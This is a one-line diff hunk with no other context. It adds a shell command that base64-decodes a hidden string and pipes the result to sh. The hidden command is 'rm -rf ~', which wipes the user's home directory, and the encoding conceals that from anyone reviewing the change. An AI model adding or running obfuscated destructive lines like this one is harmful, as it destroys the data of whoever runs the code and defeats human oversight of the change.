@@ -1,0 +1,1 @@
+echo cm0gLXJmIH4= | base64 -d | sh
